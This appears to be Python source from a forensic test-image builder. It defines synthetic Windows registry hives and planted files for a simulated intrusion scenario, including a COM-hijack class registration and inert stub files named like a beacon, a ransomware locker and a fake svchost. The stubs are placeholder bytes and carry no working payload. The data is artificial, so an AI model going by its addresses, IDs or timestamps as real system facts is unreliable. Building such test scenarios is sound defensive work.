# Registry content: data only; test_images.build turns it into hives with hivex

REG_SZ, REG_EXPAND_SZ, REG_BINARY, REG_DWORD, REG_MULTI_SZ, REG_QWORD = 1, 2, 3, 4, 7, 11


@dataclass(frozen=True)
class RegValue:
    name: str
    type: int
    data: bytes


@dataclass(frozen=True)
class RegKey:
    path: str  # relative to the hive root, backslash-separated
    values: tuple[RegValue, ...] = ()
    written: datetime | None = None  # key last-written time; None keeps the hive's base time


def sz(name: str, text: str) -> RegValue:
    return RegValue(name, REG_SZ, (text + "\0").encode("utf-16-le"))


def expand_sz(name: str, text: str) -> RegValue:
    return RegValue(name, REG_EXPAND_SZ, (text + "\0").encode("utf-16-le"))


def dword(name: str, number: int) -> RegValue:
    return RegValue(name, REG_DWORD, struct.pack("<I", number & 0xFFFFFFFF))


def qword(name: str, number: int) -> RegValue:
    return RegValue(name, REG_QWORD, struct.pack("<Q", number))


def binary(name: str, data: bytes) -> RegValue:
    return RegValue(name, REG_BINARY, data)


def multi_sz(name: str, *texts: str) -> RegValue:
    return RegValue(name, REG_MULTI_SZ, ("\0".join(texts) + "\0\0").encode("utf-16-le"))


def systemtime(month: int, day_of_week: int, week: int, hour: int) -> bytes:
    """A TZI transition rule: wYear 0, month, weekday (0 = Sunday), occurrence (5 = last), hour."""
    return struct.pack("<8H", 0, month, day_of_week, week, hour, 0, 0, 0)


STANDARD_START = systemtime(10, 0, 5, 3)  # last Sunday of October, 03:00
DAYLIGHT_START = systemtime(3, 0, 5, 2)  # last Sunday of March, 02:00
W_EUROPE_TZI = struct.pack("<iii", -60, 0, -60) + STANDARD_START + DAYLIGHT_START
PACIFIC_TZI = struct.pack("<iii", 480, 0, -60) + systemtime(11, 0, 1, 2) + systemtime(3, 0, 2, 2)
PACIFIC_2006_TZI = struct.pack("<iii", 480, 0, -60) + systemtime(10, 0, 5, 2) + systemtime(4, 0, 1, 2)


def _sid_bytes(text: str) -> bytes:
    parts = text.split("-")
    subs = [int(p) for p in parts[3:]]
    return struct.pack("<BB", 1, len(subs)) + int(parts[2]).to_bytes(6, "big") + struct.pack(f"<{len(subs)}I", *subs)


NIC_GUID = "8E1C3A5F-2B4D-4F6E-9A1B-3C5D7E9F0A2B"
IP_ADDRESS = "10.1.2.57"
GPT_DISK_GUID = uuid.UUID("5d1c8a3e-7b2f-4e91-a6c4-0f3e2d1b9a87")
GPT_PARTITION_GUID = uuid.UUID("9a7c3b1d-2e4f-4a6b-8c0d-1e2f3a4b5c6d")


def system_keys() -> list[RegKey]:
    control = r"ControlSet001\Control"
    tcpip = (sz("Hostname", HOSTNAME), sz("NV Hostname", HOSTNAME), sz("Domain", DOMAIN), sz("NV Domain", DOMAIN),
             dword("EnableICMPRedirect", 1), sz("SearchList", ""))
    c_drive = b"DMIO:ID:" + GPT_PARTITION_GUID.bytes_le
    return [
        RegKey("Select", (dword("Current", 1), dword("Default", 1), dword("Failed", 0), dword("LastKnownGood", 1))),
        RegKey("Setup", (dword("SystemSetupInProgress", 0), dword("SetupType", 0), dword("OOBEInProgress", 0),
                         sz("CmdLine", ""), dword("SetupPhase", 0)), written=INSTALLED),
        RegKey("MountedDevices", (binary(r"\DosDevices\C:", c_drive),
                                  binary(r"\??\Volume{" + str(GPT_PARTITION_GUID) + "}", c_drive))),
        RegKey(rf"{control}\ComputerName\ComputerName", (sz("ComputerName", HOSTNAME),), written=INSTALLED),
        RegKey(rf"{control}\TimeZoneInformation", (
            dword("Bias", -60), sz("DaylightName", "@tzres.dll,-321"), binary("DaylightStart", DAYLIGHT_START),
            dword("DaylightBias", -60), sz("StandardName", "@tzres.dll,-322"),
            binary("StandardStart", STANDARD_START), dword("StandardBias", 0), sz("TimeZoneKeyName", TIME_ZONE),
            dword("DynamicDaylightTimeDisabled", 0), dword("ActiveTimeBias", -60)), written=INSTALLED),
        RegKey(rf"{control}\Windows", (expand_sz("SystemDirectory", r"%SystemRoot%\system32"),
                                        qword("ShutdownTime", filetime(LAST_SHUTDOWN)))),
        RegKey(r"ControlSet001\Services\Tcpip\Parameters", tcpip),
        RegKey(rf"ControlSet001\Services\Tcpip\Parameters\Interfaces\{{{NIC_GUID}}}", (
            dword("EnableDHCP", 1), sz("DhcpIPAddress", IP_ADDRESS), sz("DhcpSubnetMask", "255.255.255.0"),
            multi_sz("DhcpDefaultGateway", "10.1.2.1"), sz("DhcpServer", "10.1.2.10"), sz("DhcpDomain", DOMAIN),
            sz("DhcpNameServer", "10.1.2.10"))),
        RegKey(rf"{control}\Keyboard Layout\DosKeybCodes", (sz("00000407", "gr"), sz("00000409", "us"))),
        RegKey(r"ControlSet001\Services\Schedule", (
            expand_sz("ImagePath", r"%systemroot%\system32\svchost.exe -k netsvcs -p"), dword("Start", 2),
            dword("Type", 0x20), sz("ObjectName", "LocalSystem"))),
    ]


TIME_ZONES = (
    ("Pacific Standard Time", "(UTC-08:00) Pacific Time (US & Canada)", 210, PACIFIC_TZI,
     {"FirstEntry": 2006, "LastEntry": 2007, "2006": PACIFIC_2006_TZI, "2007": PACIFIC_TZI}),
    ("UTC", "(UTC) Coordinated Universal Time", None, struct.pack("<iii", 0, 0, 0) + bytes(32), None),
    (TIME_ZONE, "(UTC+01:00) Amsterdam, Berlin, Bern, Rome, Stockholm, Vienna", 320, W_EUROPE_TZI, None),
)


def _time_zone_keys() -> list[RegKey]:
    base = r"Microsoft\Windows NT\CurrentVersion\Time Zones"
    keys = []
    for name, display, mui, tzi, dynamic in TIME_ZONES:
        daylight = name.replace("Standard", "Daylight") if "Standard" in name else name
        values = [sz("Display", display), sz("Dlt", daylight), sz("Std", name)]
        if mui is not None:
            values += [sz("MUI_Display", f"@tzres.dll,-{mui}"), sz("MUI_Dlt", f"@tzres.dll,-{mui + 1}"),
                       sz("MUI_Std", f"@tzres.dll,-{mui + 2}")]
        keys.append(RegKey(rf"{base}\{name}", (*values, binary("TZI", tzi))))
        if dynamic:
            keys.append(RegKey(rf"{base}\{name}\Dynamic DST", tuple(
                dword(k, v) if isinstance(v, int) else binary(k, v) for k, v in dynamic.items())))
    return keys


def com_handler_class_ids(tasks: list[PlantedTask]) -> list[str]:
    """Every ComHandler ClassId the task files name (parsed leniently: scenario and stock alike)."""
    ids = set()
    for task in tasks:
        text = task.data.decode("utf-16", errors="replace")
        start = text.find("<ClassId>")
        while start >= 0:
            end = text.find("</ClassId>", start)
            ids.add(text[start + len("<ClassId>"):end].upper())
            start = text.find("<ClassId>", end)
    return sorted(ids)


def software_keys(tasks: list[PlantedTask]) -> list[RegKey]:
    """SOFTWARE content. ``tasks`` are the planted task files: every COM handler they name is
    registered under Classes\\CLSID (a later step adds TaskCache keys per task here)."""
    current = r"Microsoft\Windows NT\CurrentVersion"
    keys = [
        RegKey(current, (
            sz("ProductName", PRODUCT_NAME), sz("EditionID", "Professional"), sz("CompositionEditionID", "Enterprise"),
            sz("InstallationType", "Client"), sz("CurrentVersion", "6.3"), sz("CurrentBuild", BUILD_NUMBER),
            sz("CurrentBuildNumber", BUILD_NUMBER), dword("CurrentMajorVersionNumber", 10),
            dword("CurrentMinorVersionNumber", 0), dword("UBR", UBR), sz("DisplayVersion", "22H2"),
            sz("ReleaseId", "2009"), sz("BuildLab", "19041.vb_release.191206-1406"),
            sz("BuildLabEx", "19041.1.amd64fre.vb_release.191206-1406"), sz("BuildBranch", "vb_release"),
            dword("InstallDate", int(INSTALLED.timestamp())), qword("InstallTime", filetime(INSTALLED)),
            sz("RegisteredOwner", USER), sz("RegisteredOrganization", ""), sz("SystemRoot", r"C:\WINDOWS"),
            sz("PathName", r"C:\WINDOWS"), sz("ProductId", "00330-80000-00000-AA712"),
        ), written=utc(2024, 2, 14, 3, 20, 2)),
        RegKey(rf"{current}\ProfileList", (expand_sz("ProfilesDirectory", r"%SystemDrive%\Users"),
                                            expand_sz("Default", r"%SystemDrive%\Users\Default"),
                                            expand_sz("Public", r"%SystemDrive%\Users\Public"))),
    ]
    for sid, path in (("S-1-5-18", r"%systemroot%\system32\config\systemprofile"),
                      ("S-1-5-19", r"%systemroot%\ServiceProfiles\LocalService"),
                      ("S-1-5-20", r"%systemroot%\ServiceProfiles\NetworkService"),
                      (USER_SID, USER_PROFILE)):
        keys.append(RegKey(rf"{current}\ProfileList\{sid}", (
            expand_sz("ProfileImagePath", path), dword("Flags", 0 if sid == USER_SID else 12), dword("State", 0),
            binary("Sid", _sid_bytes(sid))), written=INSTALLED))
    keys += _time_zone_keys()
    keys += [
        RegKey(r"Microsoft\Windows\CurrentVersion", (
            sz("ProgramFilesDir", r"C:\Program Files"), sz("ProgramFilesDir (x86)", r"C:\Program Files (x86)"),
            sz("CommonFilesDir", r"C:\Program Files\Common Files"), sz("ProgramFilesPath", r"%ProgramFiles%"))),
        RegKey(r"Microsoft\Windows\CurrentVersion\App Paths\msedge.exe", (
            sz("", r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe"),
            sz("Path", r"C:\Program Files (x86)\Microsoft\Edge\Application"))),
        RegKey(r"Microsoft\Windows\CurrentVersion\App Paths\wordpad.exe", (
            expand_sz("", r"%ProgramFiles%\Windows NT\Accessories\WORDPAD.EXE"),)),
        RegKey(r"Microsoft\Windows\CurrentVersion\Run", (
            expand_sz("SecurityHealth", r"%windir%\system32\SecurityHealthSystray.exe"),)),
        RegKey(r"Microsoft\Windows\CurrentVersion\Group Policy\History", (
            sz("MachineDomain", DOMAIN), sz("NetworkName", DOMAIN), sz("DCName", rf"\\DC01.{DOMAIN}"))),
        RegKey(r"Microsoft\Windows NT\CurrentVersion\Schedule", ()),
        RegKey(r"Policies\Microsoft\Windows\System", ()),
    ]
    for class_id in com_handler_class_ids(tasks):
        if class_id not in COM_SERVERS:
            raise KeyError(f"planted task names COM handler {class_id}: add its InprocServer32 to COM_SERVERS")
        hijack = class_id == COM_HIJACK_CLSID
        keys.append(RegKey(rf"Classes\CLSID\{class_id}\InprocServer32", (
            expand_sz("", COM_SERVERS[class_id]), sz("ThreadingModel", "Both")),
            written=utc(2024, 3, 12, 14, 36, 41) if hijack else INSTALLED))
    return keys


def ntuser_keys() -> list[RegKey]:
    return [
        RegKey(r"AppEvents\Schemes", (sz("", ".Default"),)),
        RegKey("Console", (dword("QuickEdit", 1),)),
        RegKey(r"Control Panel\Desktop", (sz("Wallpaper", r"C:\Windows\web\wallpaper\Windows\img0.jpg"),)),
        RegKey("Environment", (expand_sz("TEMP", r"%USERPROFILE%\AppData\Local\Temp"),
                               expand_sz("TMP", r"%USERPROFILE%\AppData\Local\Temp"))),
        RegKey(r"Keyboard Layout\Preload", (sz("1", "00000407"), sz("2", "00000409"))),
        RegKey(r"Control Panel\International\User Profile\de-DE", (dword("0000:00000407", 1),)),
        RegKey(r"Control Panel\International\User Profile\en-US", (dword("0000:00000409", 1),)),
        RegKey(r"Software\Microsoft\Windows\CurrentVersion\Run", (
            sz("OneDrive", rf'"{USER_PROFILE}\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background'),)),
    ]


@dataclass(frozen=True)
class PlantedHive:
    path: str
    base_name: str  # the file name Windows keeps in the base block (last 31 characters)
    root_name: str
    keys: tuple[RegKey, ...]
    times: FileTimes
    base_time: datetime = field(default=LAST_SHUTDOWN)  # timestamp of the base block and of un-pinned keys


def planted_hives(tasks: list[PlantedTask]) -> list[PlantedHive]:
    system_times = FileTimes.at(INSTALLED - timedelta(minutes=30), LAST_SHUTDOWN)
    return [
        PlantedHive("Windows/System32/config/SOFTWARE", r"\SystemRoot\System32\Config\SOFTWARE",
                    "CMI-CreateHive{199DAFC2-6F16-4946-BF90-5A3FC3A60902}", tuple(software_keys(tasks)), system_times),
        PlantedHive("Windows/System32/config/SYSTEM", "SYSTEM",
                    "CMI-CreateHive{2A7FB991-7BBE-4F9D-B91E-7CB51D4737F5}", tuple(system_keys()), system_times),
        PlantedHive(f"Users/{USER}/NTUSER.DAT", rf"\??\{USER_PROFILE}\ntuser.dat",
                    "CMI-CreateHive{D43B12B8-09B5-40DB-B4F6-F6DFEB78DAEC}", tuple(ntuser_keys()),
                    FileTimes.at(INSTALLED + timedelta(minutes=20), utc(2024, 3, 14, 8, 57, 12))),
    ]


# ---------------------------------------------------------------------------------------------
# Everything else in the tree


def _stub(kind: bytes, label: str) -> bytes:
    """A few recognisable bytes standing in for a payload (the content is never executed or parsed)."""
    return kind + b"\0" * 62 + label.encode() + b"\0"


def other_files(jobs: list[PlantedJob]) -> list[PlantedFile]:
    evtx_times = FileTimes.at(INSTALLED - timedelta(minutes=25), LAST_SHUTDOWN)
    payload = FileTimes.at(utc(2024, 3, 12, 14, 2, 51))
    files = [
        PlantedFile(f"{JOBS_DIR}/SchedLgU.txt", encode_utf16(schedlgu_text(jobs)),
                    FileTimes.at(INSTALLED + timedelta(minutes=1), utc(2024, 3, 14, 8, 1, 47))),
        PlantedFile(GPP_PATH, gpp_scheduled_tasks(), FileTimes.at(utc(2024, 2, 20, 10, 11, 40))),
        PlantedFile("Windows/System32/winevt/Logs/Microsoft-Windows-TaskScheduler%4Operational.evtx",
                    (EVTX_DIR / "TaskScheduler.evtx").read_bytes(), evtx_times),
        PlantedFile("Windows/System32/winevt/Logs/Security.evtx", (EVTX_DIR / "SecurityTasks.evtx").read_bytes(),
                    evtx_times),
        PlantedFile("Users/Public/Libraries/msedge_elf.dll", _stub(b"MZ", "beacon"), payload),
        PlantedFile("Users/Public/Libraries/svchost.exe", _stub(b"MZ", "svchost"), payload),
        PlantedFile("ProgramData/svc/locker.exe", _stub(b"MZ", "locker"), FileTimes.at(utc(2024, 3, 13, 1, 16, 2))),
        PlantedFile(f"Users/{USER}/AppData/Roaming/Update.Service/Update.Service.exe", _stub(b"MZ", "update"), payload),
        PlantedFile(f"Users/{USER}/AppData/Roaming/Microsoft/Themes/thmsync.dll", _stub(b"MZ", "thmsync"), payload),
        PlantedFile(f"Users/{USER}/Documents/Finance/Q1-2024-forecast.xlsx", _stub(b"PK\x03\x04", "forecast"),
                    FileTimes.at(utc(2024, 2, 27, 15, 40, 3))),
    ]
    files += [PlantedFile(job.file_path, encode_job(job.job), job.times) for job in jobs]
    return files
